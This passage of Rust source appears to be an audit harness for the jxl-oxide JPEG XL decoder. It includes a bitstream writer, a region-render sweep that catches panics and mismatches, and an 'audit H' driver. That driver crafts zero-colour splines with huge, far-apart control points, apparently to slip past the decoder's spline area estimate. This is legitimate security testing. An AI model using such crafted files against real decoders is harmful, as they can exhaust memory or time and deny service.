            right: Box::new(right),
        }
    }
}

pub fn write_tree(w: &mut BitWriter, tree: &Tree) {
    write_entropy_header(w, 6);
    let mut q = std::collections::VecDeque::new();
    q.push_back(tree);
    let mut leaves = 0u32;
    while let Some(n) = q.pop_front() {
        match n {
            Tree::Node {
                prop,
                value,
                left,
                right,
            } => {
                write_value(w, prop + 1);
                write_value(w, pack_signed(*value));
                q.push_back(left);
                q.push_back(right);
            }
            Tree::Leaf {
                pred,
                offset,
                mul_log,
                mul_bits,
            } => {
                write_value(w, 0);
                write_value(w, *pred);
                write_value(w, pack_signed(*offset));
                write_value(w, *mul_log);
                write_value(w, *mul_bits);
                leaves += 1;
            }
        }
    }
    write_entropy_header(w, leaves);
}

#[derive(Clone, Debug)]
pub struct EcSpec {
    /// 0 alpha, 1 depth, 3 selection mask, 4 black ...
    pub ty: u32,
    pub dim_shift: u32,
    pub alpha_associated: bool,
}

#[derive(Clone, Debug)]
pub struct ImageSpec {
    pub width: u32,
    pub height: u32,
    pub gray: bool,
    pub modular_16bit: bool,
    pub ec: Vec<EcSpec>,
    pub animation: bool,
    pub orientation: u32,
    pub xyb: bool,
}

impl ImageSpec {
    pub fn rgb(width: u32, height: u32) -> Self {
        Self {
            width,
            height,
            gray: false,
            modular_16bit: true,
            ec: Vec::new(),
            animation: false,
            orientation: 1,
            xyb: false,
        }
    }
    pub fn color_channels(&self) -> usize {
        if self.gray {
            1
        } else {
            3
        }
    }
}

fn write_size_u32(w: &mut BitWriter, v: u32) {
    // U32(1 + u(9), 1 + u(13), 1 + u(18), 1 + u(30))
    let v = v - 1;
    if v < (1 << 9) {
        w.sel(0, v, 9);
    } else if v < (1 << 13) {
        w.sel(1, v, 13);
    } else if v < (1 << 18) {
        w.sel(2, v, 18);
    } else {
        w.sel(3, v, 30);
    }
}

pub fn write_image_header(w: &mut BitWriter, img: &ImageSpec) {
    w.bits(0xff, 8);
    w.bits(0x0a, 8);
    // SizeHeader
    w.bool(false); // div8
    write_size_u32(w, img.height);
    w.bits(0, 3); // ratio
    write_size_u32(w, img.width);
    // ImageMetadata
    w.bool(false); // all_default
    let extra_fields = img.animation || img.orientation != 1;
    w.bool(extra_fields);
    if extra_fields {
        w.bits((img.orientation - 1) as u64, 3);
        w.bool(false); // have_intr_size
        w.bool(false); // have_preview
        w.bool(img.animation);
        if img.animation {
            w.sel(0, 0, 0); // tps_numerator 100
            w.sel(0, 0, 0); // tps_denominator 1
            w.sel(0, 0, 0); // num_loops 0
            w.bool(false); // have_timecodes
        }
    }
    // bit depth: integer, 8
    w.bool(false);
    w.sel(0, 0, 0);
    w.bool(img.modular_16bit);
    // num_extra U32(0, 1, 2 + u(4), 1 + u(12))
    let ne = img.ec.len() as u32;
    match ne {
        0 => w.sel(0, 0, 0),
        1 => w.sel(1, 0, 0),
        _ => w.sel(2, ne - 2, 4),
    }
    for ec in &img.ec {
        if ec.ty == 0 && ec.dim_shift == 0 && !ec.alpha_associated {
            w.bool(true); // default alpha
        } else {
            w.bool(false);
            // enum: U32(0, 1, 2 + u(4), 18 + u(6))
            match ec.ty {
                0 => w.sel(0, 0, 0),
                1 => w.sel(1, 0, 0),
                t if t < 18 => w.sel(2, t - 2, 4),
                t => w.sel(3, t - 18, 6),
            }
            // bit depth int 8
            w.bool(false);
            w.sel(0, 0, 0);
            // dim_shift U32(0, 3, 4, 1 + u(3))
            match ec.dim_shift {
                0 => w.sel(0, 0, 0),
                3 => w.sel(1, 0, 0),
                4 => w.sel(2, 0, 0),
                s => w.sel(3, s - 1, 3),
            }
            // name len 0
            w.sel(0, 0, 0);
            if ec.ty == 0 {
                w.bool(ec.alpha_associated);
            }
            assert!(ec.ty != 2 && ec.ty != 5, "spot/cfa not supported by writer");
        }
    }
    w.bool(img.xyb); // xyb_encoded
    // colour encoding
    if img.gray {
        w.bool(false); // all_default
        w.bool(false); // want_icc
        w.sel(1, 0, 0); // colour_space = Grey (1)
        w.sel(1, 0, 0); // white point D65 = 1
        // no primaries for grey
        // transfer function: have_gamma = 0, enum sRGB = 13
        w.bool(false);
        w.sel(2, 13 - 2, 4);
        w.sel(1, 0, 0); // rendering intent relative = 1
    } else {
        w.bool(true);
    }
    if extra_fields {
        w.bool(true); // tone mapping all_default
    }
    w.u64v(0); // extensions
    w.bool(true); // default_m
}

#[derive(Clone, Copy, Debug, Default)]
pub struct BlendSpec {
    /// 0 replace, 1 add, 2 blend, 3 muladd, 4 mul
    pub mode: u32,
    pub alpha_channel: u32,
    pub clamp: bool,
    pub source: u32,
}

#[derive(Clone, Debug)]
pub struct PatchSpec {
    pub ref_idx: u32,
    pub x0: u32,
    pub y0: u32,
    pub width: u32,
    pub height: u32,
    /// (x, y, blend mode for each of 1 + num_extra)
    pub targets: Vec<(i32, i32, Vec<u32>)>,
}

#[derive(Clone, Debug)]
pub struct FrameSpec {
    pub frame_type: u32,
    pub flags: u64,
    pub upsampling: u32,
    pub ec_upsampling: Vec<u32>,
    pub group_size_shift: u32,
    pub lf_level: u32,
    pub crop: Option<(i32, i32, u32, u32)>,
    pub blend: BlendSpec,
    pub ec_blend: Vec<BlendSpec>,
    pub duration: u32,
    pub is_last: bool,
    pub save_as_reference: u32,
    pub save_before_ct: bool,
    pub tree: Option<Tree>,
    /// samples per channel (colour then extra), at coded resolution; residual tokens are
    /// `sample` for zero-predictor single-leaf tree, or all-zero if `tree` is given.
    pub channels: Vec<Vec<i32>>,
    pub patches: Vec<PatchSpec>,
    /// written when `flags & 0x10` (audit H)
    pub splines: Option<SplinesSpec>,
    pub gab: bool,
    pub do_ycbcr: bool,
    pub epf_iters: u32,
    pub jpeg_upsampling: [u32; 3],
}

impl FrameSpec {
    pub fn new(img: &ImageSpec) -> Self {
        Self {
            frame_type: 0,
            flags: 0,
            upsampling: 1,
            ec_upsampling: vec![1; img.ec.len()],
            group_size_shift: 1,
            lf_level: 0,
            crop: None,
            blend: BlendSpec::default(),
            ec_blend: vec![BlendSpec::default(); img.ec.len()],
            duration: 0,
            is_last: true,
            save_as_reference: 0,
            save_before_ct: false,
            tree: None,
            channels: Vec::new(),
            patches: Vec::new(),
            splines: None,
            gab: false,
            do_ycbcr: false,
            epf_iters: 0,
            jpeg_upsampling: [0; 3],
        }
    }

    pub fn size(&self, img: &ImageSpec) -> (u32, u32) {
        match self.crop {
            Some((_, _, w, h)) => (w, h),
            None => (img.width, img.height),
        }
    }

    pub fn color_size(&self, img: &ImageSpec) -> (u32, u32) {
        let (mut w, mut h) = self.size(img);
        w = w.div_ceil(self.upsampling);
        h = h.div_ceil(self.upsampling);
        if self.lf_level > 0 {
            let s = 3 * self.lf_level;
            w = (w + (1 << s) - 1) >> s;
            h = (h + (1 << s) - 1) >> s;
        }
        (w, h)
    }

    pub fn channel_dims(&self, img: &ImageSpec) -> Vec<(u32, u32)> {
        let (cw, ch) = self.color_size(img);
        let mut v = vec![(cw, ch); img.color_channels()];
        if self.do_ycbcr {
            let j = self.jpeg_upsampling;
            let hscale = j.iter().any(|&v| v == 1 || v == 2);
            let vscale = j.iter().any(|&v| v == 1 || v == 3);
            for c in 0..3 {
                let (hs, vs) = match j[c] { 0 => (hscale, vscale), 1 => (false, false), 2 => (false, vscale), _ => (hscale, false) };
                let w = if hscale { let s = cw.div_ceil(2); if hs { s } else { s * 2 } } else { cw };
                let h = if vscale { let s = ch.div_ceil(2); if vs { s } else { s * 2 } } else { ch };
                v[c] = (w, h);
            }
        }
        for (i, ec) in img.ec.iter().enumerate() {
            let s = self.ec_upsampling[i].trailing_zeros() + ec.dim_shift
                - self.upsampling.trailing_zeros();
            v.push(((cw + (1 << s) - 1) >> s, (ch + (1 << s) - 1) >> s));
        }
        v
    }

    /// Fill channels from a function (channel index, x, y) -> sample.
    pub fn fill(&mut self, img: &ImageSpec, f: impl Fn(usize, u32, u32) -> i32) {
        let dims = self.channel_dims(img);
        self.channels = dims
            .iter()
            .enumerate()
            .map(|(c, &(w, h))| {
                let mut v = Vec::with_capacity((w * h) as usize);
                for y in 0..h {
                    for x in 0..w {
                        v.push(f(c, x, y));
                    }
                }
                v
            })
            .collect();
    }
}

fn write_crop_u32(w: &mut BitWriter, v: u32) {
    // U32(u(8), 256 + u(11), 2304 + u(14), 18688 + u(30))
    if v < 256 {
        w.sel(0, v, 8);
    } else if v < 2304 {
        w.sel(1, v - 256, 11);
    } else if v < 18688 {
        w.sel(2, v - 2304, 14);
    } else {
        w.sel(3, v - 18688, 30);
    }
}

fn write_up(w: &mut BitWriter, up: u32) {
    w.sel(up.trailing_zeros(), 0, 0);
}

fn test_full_image(img: &ImageSpec, x0: i32, y0: i32, w: u32, h: u32) -> bool {
    if x0 > 0 || y0 > 0 {
        return false;
    }
    let right = x0 as i64 + w as i64;
    let bottom = y0 as i64 + h as i64;
    right >= img.width as i64 && bottom >= img.height as i64
}

pub fn resets_canvas(img: &ImageSpec, f: &FrameSpec) -> bool {
    f.blend.mode == 0
        && match f.crop {
            None => true,
            Some((x0, y0, w, h)) => test_full_image(img, x0, y0, w, h),
        }
}

fn write_blend(w: &mut BitWriter, b: &BlendSpec, has_ec: bool, resets: bool) {
    match b.mode {
        0..=2 => w.sel(b.mode, 0, 0),
        m => w.sel(3, m - 3, 2),
    }
    let uses_alpha = has_ec && (b.mode == 2 || b.mode == 3);
    if uses_alpha {
        match b.alpha_channel {
            0..=2 => w.sel(b.alpha_channel, 0, 0),
            a => w.sel(3, a - 3, 3),
        }
    }
    if uses_alpha || b.mode == 4 {
        w.bool(b.clamp);
    }
    if !resets {
        w.bits(b.source as u64, 2);
    }
}

pub fn write_frame_header(w: &mut BitWriter, img: &ImageSpec, f: &FrameSpec) {
    w.pad();
    w.bool(false); // all_default
    w.bits(f.frame_type as u64, 2);
    w.bool(true); // modular
    w.u64v(f.flags);
    if !img.xyb { w.bool(f.do_ycbcr); }
    if f.do_ycbcr { for j in f.jpeg_upsampling { w.bits(j as u64, 2); } }
    let use_lf_frame = f.flags & 0x20 != 0;
    assert!(!use_lf_frame);
    write_up(w, f.upsampling);
    for &u in &f.ec_upsampling {
        write_up(w, u);
    }
    w.bits(f.group_size_shift as u64, 2);
    if f.frame_type != 2 {
        w.sel(0, 0, 0); // num_passes = 1
    }
    if f.frame_type == 1 {
        w.bits((f.lf_level - 1) as u64, 2);
    }
    let normal = f.frame_type == 0 || f.frame_type == 3;
    let have_crop = f.crop.is_some();
    if f.frame_type != 1 {
        w.bool(have_crop);
    }
    if let Some((x0, y0, cw, ch)) = f.crop {
        if f.frame_type != 2 {
            write_crop_u32(w, pack_signed(x0));
            write_crop_u32(w, pack_signed(y0));
        }
        write_crop_u32(w, cw);
        write_crop_u32(w, ch);
    }
    let resets = resets_canvas(img, f);
    if normal {
        let has_ec = !img.ec.is_empty();
        write_blend(w, &f.blend, has_ec, resets);
        for b in &f.ec_blend {
            write_blend(w, b, has_ec, resets);
        }
        if img.animation {
            match f.duration {
                0 => w.sel(0, 0, 0),
                1 => w.sel(1, 0, 0),
                d if d < 256 => w.sel(2, d, 8),
                d => w.sel(3, d, 32),
            }
        }
        w.bool(f.is_last);
    }
    let is_last = if normal { f.is_last } else { false };
    if f.frame_type != 1 && !is_last {
        w.bits(f.save_as_reference as u64, 2);
    }
    let duration = if normal && img.animation { f.duration } else { 0 };
    let sbc_cond = f.frame_type == 2
        || (resets
            && (!is_last && (duration == 0 || f.save_as_reference != 0) && f.frame_type != 1));
    if sbc_cond {
        w.bool(f.save_before_ct);
    }
    w.sel(0, 0, 0); // name
    // restoration filter
    w.bool(false); // all_default
    w.bool(f.gab); // gab enabled
    if f.gab {
        w.bool(false); // not custom
    }
    w.bits(f.epf_iters as u64, 2);
    if f.epf_iters > 0 {
        w.bool(false); // weight_custom
        w.bool(false); // sigma_custom
        w.bits(0x3C00, 16); // sigma_for_modular = 1.0
    }
    w.u64v(0); // rf extensions
    w.u64v(0); // extensions
}

fn write_toc_size(w: &mut BitWriter, v: u32) {
    if v < 1024 {
        w.sel(0, v, 10);
    } else if v < 17408 {
        w.sel(1, v - 1024, 14);
    } else if v < 4211712 {
        w.sel(2, v - 17408, 22);
    } else {
        w.sel(3, v - 4211712, 30);
    }
}

fn write_patches(w: &mut BitWriter, img: &ImageSpec, patches: &[PatchSpec]) {
    write_entropy_header(w, 10);
    write_value(w, patches.len() as u32);
    let num_alpha = img.ec.iter().filter(|e| e.ty == 0).count();
    for p in patches {
        write_value(w, p.ref_idx);
        write_value(w, p.x0);
        write_value(w, p.y0);
        write_value(w, p.width - 1);
        write_value(w, p.height - 1);
        write_value(w, p.targets.len() as u32 - 1);
        let mut prev: Option<(i32, i32)> = None;
        for (x, y, modes) in &p.targets {
            if let Some((px, py)) = prev {
                write_value(w, pack_signed(x - px));
                write_value(w, pack_signed(y - py));
            } else {
                write_value(w, *x as u32);
                write_value(w, *y as u32);
            }
            prev = Some((*x, *y));
            assert_eq!(modes.len(), 1 + img.ec.len());
            for &m in modes {
                write_value(w, m);
                if m >= 4 && num_alpha >= 2 {
                    write_value(w, 0);
                }
                if m >= 3 {
                    write_value(w, 0);
                }
            }
        }
    }
}

/// One spline: absolute control points (the first is the starting point), quantized DCT32
/// coefficients of X, Y, B and sigma.
#[derive(Clone, Debug)]
pub struct SplineSpec {
    pub points: Vec<(i64, i64)>,
    pub xyb_dct: [[i32; 32]; 3],
    pub sigma_dct: [i32; 32],
}

impl SplineSpec {
    pub fn new(points: Vec<(i64, i64)>) -> Self {
        Self { points, xyb_dct: [[0; 32]; 3], sigma_dct: [0; 32] }
    }
}

#[derive(Clone, Debug, Default)]
pub struct SplinesSpec {
    pub quant_adjust: i32,
    pub splines: Vec<SplineSpec>,
}

fn packed_i64(v: i64) -> u32 {
    let p: u64 = if v >= 0 { (v as u64) * 2 } else { ((-v) as u64) * 2 - 1 };
    assert!(p < (1 << 31), "value {v} does not fit the 32-token flat code of the harness");
    p as u32
}

/// Splines bundle (crates/jxl-frame/src/data/spline.rs): 6 contexts, all sharing the harness's
/// flat prefix code.  ctx 2 num_splines - 1; ctx 1 start points (first absolute, then deltas);
/// ctx 0 quant_adjust; per spline ctx 3 number of further control points, ctx 4 double deltas,
/// ctx 5 3 x 32 colour + 32 sigma coefficients.
pub fn write_splines(w: &mut BitWriter, sp: &SplinesSpec) {
    write_entropy_header(w, 6);
    assert!(!sp.splines.is_empty());
    write_value(w, sp.splines.len() as u32 - 1);
    let mut prev = (0i64, 0i64);
    for (i, s) in sp.splines.iter().enumerate() {
        let (x, y) = s.points[0];
        if i == 0 {
            assert!(x >= 0 && y >= 0 && x < (1 << 31) && y < (1 << 31));
            write_value(w, x as u32);
            write_value(w, y as u32);
        } else {
            write_value(w, packed_i64(x - prev.0));
            write_value(w, packed_i64(y - prev.1));
        }
        prev = (x, y);
    }
    write_value(w, pack_signed(sp.quant_adjust));
    for s in &sp.splines {
        write_value(w, s.points.len() as u32 - 1);
        let mut cur = s.points[0];
        let mut delta = (0i64, 0i64);
        for &(x, y) in &s.points[1..] {
            let nd = (x - cur.0, y - cur.1);
            write_value(w, packed_i64(nd.0 - delta.0));
            write_value(w, packed_i64(nd.1 - delta.1));
            delta = nd;
            cur = (x, y);
        }
        for c in &s.xyb_dct {
            for &q in c {
                write_value(w, pack_signed(q));
            }
        }
        for &q in &s.sigma_dct {
            write_value(w, pack_signed(q));
        }
    }
}

fn write_modular_header(w: &mut BitWriter) {
    w.bool(true); // use_global_tree
    w.bool(true); // default wp
    w.sel(0, 0, 0); // nb_transforms = 0
}

/// Returns the frame bytes (header + TOC + sections), byte-aligned.
pub fn encode_frame(img: &ImageSpec, f: &FrameSpec) -> Vec<u8> {
    let dims = f.channel_dims(img);
    assert_eq!(dims.len(), f.channels.len(), "channel count");
    for (d, c) in dims.iter().zip(&f.channels) {
        assert_eq!((d.0 * d.1) as usize, c.len(), "channel size");
    }
    let group_dim = 128u32 << f.group_size_shift;
    let (cw, ch) = f.color_size(img);
    let gcols = cw.div_ceil(group_dim);
    let grows = ch.div_ceil(group_dim);
    let num_groups = gcols * grows;
    let lf_dim = group_dim * 8;
    let num_lf_groups = cw.div_ceil(lf_dim) * ch.div_ceil(lf_dim);

    let use_tokens = f.tree.is_none();
    let tok = |v: i32| if use_tokens { pack_signed(v) } else { 0 };

    // LfGlobal
    let mut g = BitWriter::new();
    if f.flags & 2 != 0 {
        write_patches(&mut g, img, &f.patches);
    }
    if f.flags & 0x10 != 0 {
        write_splines(&mut g, f.splines.as_ref().expect("splines flag without SplinesSpec"));
    }
    if f.flags & 1 != 0 {
        for _ in 0..8 { g.bits(1023, 10); }
    }
    g.bool(true); // lf dequant all_default
    g.bool(true); // has global tree
    let tree = f.tree.clone().unwrap_or_else(Tree::zero_leaf);
    write_tree(&mut g, &tree);
    write_modular_header(&mut g);
    // global channels: leading channels fitting into group_dim
    let mut first_nonglobal = dims.len();
    for (i, &(w_, h_)) in dims.iter().enumerate() {
        if w_ <= group_dim && h_ <= group_dim {
            for &v in &f.channels[i] {
                write_value(&mut g, tok(v));
            }
        } else {
            first_nonglobal = i;
            break;
        }
    }
    let lf_global = g.finish();

    let mut sections: Vec<Vec<u8>> = Vec::new();
    if num_groups == 1 {
        assert_eq!(first_nonglobal, dims.len());
        sections.push(lf_global);
    } else {
        sections.push(lf_global);
        for _ in 0..num_lf_groups {
            sections.push(Vec::new());
        }
        sections.push(Vec::new()); // HfGlobal
        let cshift = f.upsampling.trailing_zeros();
        for gy in 0..grows {
            for gx in 0..gcols {
                let mut s = BitWriter::new();
                let mut any = false;
                let mut body = BitWriter::new();
                for i in first_nonglobal..dims.len() {
                    let (w_, h_) = dims[i];
                    let (hs, vs) = if i < img.color_channels() {
                        if f.do_ycbcr {
                            let j = f.jpeg_upsampling;
                            let hscale = j.iter().any(|&v| v == 1 || v == 2);
                            let vscale = j.iter().any(|&v| v == 1 || v == 3);
                            let (a, b) = match j[i] { 0 => (hscale, vscale), 1 => (false, false), 2 => (false, vscale), _ => (hscale, false) };
                            (a as u32, b as u32)
                        } else { (0, 0) }
                    } else {
                        let e = i - img.color_channels();
                        let s_ = f.ec_upsampling[e].trailing_zeros() + img.ec[e].dim_shift - cshift;
                        (s_, s_)
                    };
                    assert!(hs < 3 && vs < 3, "lf-group channels unsupported");
                    let gw = group_dim >> hs;
                    let gh = group_dim >> vs;
                    let x0 = gx * gw;
                    let y0 = gy * gh;
                    if x0 >= w_ || y0 >= h_ {
                        continue;
                    }
                    let x1 = (x0 + gw).min(w_);
                    let y1 = (y0 + gh).min(h_);
                    any = true;
                    for y in y0..y1 {
                        for x in x0..x1 {
                            write_value(&mut body, tok(f.channels[i][(y * w_ + x) as usize]));
                        }
                    }
                }
                if any {
                    write_modular_header(&mut s);
                    let body_bits = body.nbits;
                    let bytes = body.finish();
                    // append bit by bit
                    for i in 0..body_bits {
                        s.bits(((bytes[i / 8] >> (i % 8)) & 1) as u64, 1);
                    }
                }
                sections.push(s.finish());
            }
        }
    }

    let mut w = BitWriter::new();
    write_frame_header(&mut w, img, f);
    w.bool(false); // not permuted
    w.pad();
    for s in &sections {
        write_toc_size(&mut w, s.len() as u32);
    }
    w.pad();
    for s in &sections {
        w.append_aligned(s);
    }
    w.finish()
}

pub fn encode_image(img: &ImageSpec, frames: &[FrameSpec]) -> Vec<u8> {
    let mut w = BitWriter::new();
    write_image_header(&mut w, img);
    w.pad();
    let mut out = w.finish();
    for f in frames {
        out.extend(encode_frame(img, f));
    }
    out
}

// ---------- decode helpers ----------

pub use jxl_oxide::{CropInfo, JxlImage};

pub fn open(bytes: &[u8]) -> JxlImage {
    JxlImage::builder()
        .pool(jxl_threadpool::JxlThreadPool::none())
        .read(bytes)
        .expect("decode failed")
}

/// Render a keyframe, return per-channel planar f32 buffers as (width, height, samples).
pub fn render_planar(image: &JxlImage, keyframe: usize) -> Vec<(usize, usize, Vec<f32>)> {
    let r = image.render_frame(keyframe).expect("render failed");
    r.image_planar()
        .into_iter()
        .map(|fb| (fb.width(), fb.height(), fb.buf().to_vec()))
        .collect()
}

pub fn to_u8(v: f32) -> i32 {
    (v * 255.0).round() as i32
}

pub fn dump(label: &str, planes: &[(usize, usize, Vec<f32>)]) {
    println!("== {label}");
    for (c, (w, h, buf)) in planes.iter().enumerate() {
        println!("channel {c} ({w}x{h})");
        for y in 0..*h {
            let row: Vec<String> = (0..*w)
                .map(|x| format!("{:4}", to_u8(buf[y * w + x])))
                .collect();
            println!("  {}", row.join(""));
        }
    }
}

// ---------- audit F helpers ----------

pub fn panic_msg(p: Box<dyn std::any::Any + Send>) -> String {
    p.downcast_ref::<String>()
        .cloned()
        .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
        .unwrap_or_else(|| "<non-string panic>".into())
}

thread_local! {
    pub static LAST_PANIC_LOC: std::cell::RefCell<String> = std::cell::RefCell::new(String::new());
}

pub fn install_quiet_hook() {
    std::panic::set_hook(Box::new(|info| {
        let loc = info.location().map(|l| format!("{}:{}", l.file(), l.line())).unwrap_or_default();
        LAST_PANIC_LOC.with(|c| *c.borrow_mut() = loc);
    }));
}

#[derive(Debug, Clone)]
pub struct Finding {
    pub keyframe: usize,
    pub region: (u32, u32, u32, u32),
    pub what: String,
}

/// Render keyframe `k` with region; Ok(planes) or Err(panic message + location / error).
pub fn render_region(bytes: &[u8], k: usize, r: Option<(u32, u32, u32, u32)>) -> Result<Vec<(usize, usize, Vec<f32>)>, String> {
    let bytes = bytes.to_vec();
    let res = std::panic::catch_unwind(move || {
        let mut image = JxlImage::builder()
            .pool(jxl_threadpool::JxlThreadPool::none())
            .read(&bytes[..])
            .map_err(|e| format!("decode error: {e}"))?;
        if let Some((l, t, w, h)) = r {
            image.set_image_region(CropInfo { left: l, top: t, width: w, height: h });
        }
        let r = image.render_frame(k).map_err(|e| format!("render error: {e}"))?;
        Ok::<_, String>(r.image_planar().into_iter().map(|fb| (fb.width(), fb.height(), fb.buf().to_vec())).collect::<Vec<_>>())
    });
    match res {
        Ok(r) => r,
        Err(p) => {
            let loc = LAST_PANIC_LOC.with(|c| c.borrow().clone());
            Err(format!("PANIC '{}' at {}", panic_msg(p), loc))
        }
    }
}

pub fn num_keyframes(bytes: &[u8]) -> usize {
    open(bytes).num_loaded_keyframes()
}

/// Compare region render against crop of full render. Returns first difference.
pub fn compare_region(full: &[(usize, usize, Vec<f32>)], part: &[(usize, usize, Vec<f32>)], r: (u32, u32, u32, u32)) -> Option<String> {
    let (l, t, w, h) = (r.0 as usize, r.1 as usize, r.2 as usize, r.3 as usize);
    if full.len() != part.len() { return Some(format!("channel count {} vs {}", part.len(), full.len())); }
    for c in 0..full.len() {
        let (fw, _fh, fb) = &full[c];
        let (pw, ph, pb) = &part[c];
        if *pw != w || *ph != h { return Some(format!("channel {c}: size {pw}x{ph}, wanted {w}x{h}")); }
        let mut nd = 0; let mut first = None;
        for y in 0..h { for x in 0..w {
            let f = fb[(t + y) * fw + l + x]; let p = pb[y * pw + x];
            if !((f - p).abs() <= 1e-6) && !(f.is_nan() && p.is_nan()) {
                nd += 1;
                if first.is_none() { first = Some((l + x, t + y, f, p)); }
            }
        }}
        if let Some((x, y, f, p)) = first {
            return Some(format!("channel {c}: {nd} samples differ, first at image ({x},{y}): expected {f} (x255 = {:.3}) actual {p} (x255 = {:.3})", f * 255.0, p * 255.0));
        }
    }
    None
}

/// Sweep regions; returns findings grouped by message kind (digits removed) -> (count, first).
pub fn sweep(label: &str, bytes: &[u8], lefts: std::ops::Range<u32>, tops: std::ops::Range<u32>, widths: std::ops::Range<u32>, heights: std::ops::Range<u32>, img_w: u32, img_h: u32) -> usize {
    install_quiet_hook();
    let nk = match std::panic::catch_unwind(|| num_keyframes(bytes)) { Ok(n) => n, Err(p) => { println!("[{label}] open PANIC {}", panic_msg(p)); return 1; } };
    let mut total = 0usize;
    let mut tried = 0usize;
    let mut kinds: std::collections::BTreeMap<String, (usize, Finding)> = Default::default();
    for k in 0..nk {
        let full = match render_region(bytes, k, None) {
            Ok(f) => f,
            Err(e) => { println!("[{label}] keyframe {k}: FULL render failed: {e}"); total += 1; continue; }
        };
        for l in lefts.clone() { for t in tops.clone() { for w in widths.clone() { for h in heights.clone() {
            if l + w > img_w || t + h > img_h { continue; }
            tried += 1;
            let r = (l, t, w, h);
            let what = match render_region(bytes, k, Some(r)) {
                Ok(p) => match compare_region(&full, &p, r) { None => continue, Some(d) => d },
                Err(e) => e,
            };
            total += 1;
            let key: String = what.chars().filter(|c| !c.is_ascii_digit()).collect();
            let key = format!("kf{k} {}", key.split(" first at").next().unwrap());
            let e = kinds.entry(key).or_insert((0, Finding { keyframe: k, region: r, what: what.clone() }));
            e.0 += 1;
            // prefer the smallest region as representative
            if (r.2 * r.3, r.0 + r.1) < (e.1.region.2 * e.1.region.3, e.1.region.0 + e.1.region.1) { e.1 = Finding { keyframe: k, region: r, what }; }
        }}}}
    }
    println!("[{label}] {total} failing of {tried} region renders");
    for (k, (n, f)) in &kinds {
        println!("    [{n}x] {k}\n         e.g. keyframe {} region (l={},t={},w={},h={}): {}", f.keyframe, f.region.0, f.region.1, f.region.2, f.region.3, f.what);
    }
    total
}

//! Audit H: spline area estimate with zero colour.  Parameterised experiment driver.
//!
//!   h_spline valid                         one visible spline on 64x64; checks that samples change
//!   h_spline far [key=value ...]           zig-zag spline(s) with far-apart control points
//!     len=<total arc length>  seg=<max segment length, default 2^23>  nsplines=<n>
//!     sigma=<quantized sigma DCT[0]>  color=<quantized X DCT[0]>  qa=<quant_adjust>
//!     tracker=<MiB, 0 = none>  size=<image side>  up=<frame upsampling 1/2/4/8>  write=<path>  norender=1
use audit_e::*;
use std::time::Instant;

fn log2_ceil(x: u64) -> u32 {
    x.next_power_of_two().trailing_zeros()
}

fn div_ceil_qa(d: u32, qa: i32) -> u64 {
    let d = d as u64;
    if qa >= 0 {
        let qa = qa as u64;
        (8 * d + 7 + qa) / (8 + qa)
    } else {
        let a = (-qa) as u64;
        d + (d * a).div_ceil(8)
    }
}

/// Re-computation of Splines::estimate_area for Modular frames (no base correlation: (0, 1)).
/// `fixed` applies max(1, log_color).
pub fn estimate_area(sp: &SplinesSpec, fixed: bool) -> u128 {
    let mut total = 0u128;
    for s in &sp.splines {
        let mut c = s.xyb_dct.map(|d| d.iter().map(|q| div_ceil_qa(q.unsigned_abs(), sp.quant_adjust)).sum::<u64>());
        c[2] += c[1];
        let mut log_color = log2_ceil(1 + c.into_iter().max().unwrap()) as u128;
        if fixed {
            log_color = log_color.max(1);
        }
        let mut width = 0u128;
        for q in s.sigma_dct {
            let w = 1 + div_ceil_qa(q.unsigned_abs(), sp.quant_adjust) as u128;
            width += w * w * log_color;
        }
        let mut manhattan = 0u128;
        for p in s.points.windows(2) {
            manhattan += ((p[1].0 - p[0].0).abs() + (p[1].1 - p[0].1).abs()) as u128;
        }
        total += width * manhattan;
    }
    total
}

fn base_frame(img: &ImageSpec) -> FrameSpec {
    let mut f = FrameSpec::new(img);
    f.fill(img, |c, x, y| ((x * 3 + y * 2 + c as u32 * 40) % 200) as i32);
    f
}

fn valid() -> i32 {
    let img = ImageSpec::rgb(64, 64);
    let plain = encode_image(&img, &[base_frame(&img)]);
    let mut f = base_frame(&img);
    f.flags |= 0x10;
    let mut s = SplineSpec::new(vec![(10, 10), (30, 40), (50, 20)]);
    s.xyb_dct[1][0] = 8; // 8 * 0.075 = 0.6
    s.xyb_dct[0][0] = 20;
    s.sigma_dct[0] = 6; // sigma = 2.0
    let sp = SplinesSpec { quant_adjust: 0, splines: vec![s] };
    println!("estimated area (recomputed) = {}", estimate_area(&sp, false));
    f.splines = Some(sp);
    let with = encode_image(&img, &[f]);
    println!("plain file {} bytes, with spline {} bytes", plain.len(), with.len());
    let a = render_planar(&open(&plain), 0);
    let b = render_planar(&open(&with), 0);
    let mut changed = 0;
    for c in 0..3 {
        let (w, h, pa) = &a[c];
        let pb = &b[c].2;
        let n = pa.iter().zip(pb).filter(|(x, y)| (*x - *y).abs() > 1e-4).count();
        println!("channel {c}: {n} of {} samples changed", w * h);
        changed += n;
    }
    // a picture of the Y (=G) channel difference
    let (w, h, pa) = &a[1];
    for y in (0..*h).step_by(2) {
        let row: String = (0..*w)
            .map(|x| {
                let d = b[1].2[y * w + x] - pa[y * w + x];
                if d > 0.2 { '#' } else if d > 0.02 { '+' } else if d > 1e-4 { '.' } else { ' ' }
            })
            .collect();
        println!("|{row}|");
    }
    if changed == 0 {
        println!("FAIL: spline writer produced no visible change");
        return 1;
    }
    println!("OK: spline writer validated");
    0
}

pub fn far_spec(len: i64, seg: i64, nsplines: usize, sigma: i32, color: i32, qa: i32) -> SplinesSpec {
    // zig-zag between x = 0 and x = seg, one row further down at each turn; total L1 length ~ len
    let per = len / nsplines as i64;
    let mut splines = Vec::new();
    for k in 0..nsplines {
        let y0 = (k as i64) * 4;
        let mut pts = vec![(0i64, y0)];
        let mut left = per;
        let (mut x, mut y, mut dir) = (0i64, y0, 1i64);
        while left > 0 {
            let step = left.min(seg);
            x += dir * step;
            if pts.len() > 1 {
                y += 1; // the first segment stays horizontal so that a single segment has L1 length `len` exactly
            }
            pts.push((x, y));
            left -= step;
            dir = -dir;
        }
        let mut s = SplineSpec::new(pts);
        s.xyb_dct[0][0] = color;
        s.sigma_dct[0] = sigma;
        splines.push(s);
    }
    SplinesSpec { quant_adjust: qa, splines }
}

fn far(args: &[String]) -> i32 {
    let get = |k: &str, d: i64| -> i64 {
        args.iter()
            .find_map(|a| a.strip_prefix(&format!("{k}=")).map(|v| v.parse::<f64>().expect("number") as i64))
            .unwrap_or(d)
    };
    let len = get("len", 10_000);
    let seg = get("seg", 1 << 23);
    let nsplines = get("nsplines", 1) as usize;
    let sigma = get("sigma", 3) as i32;
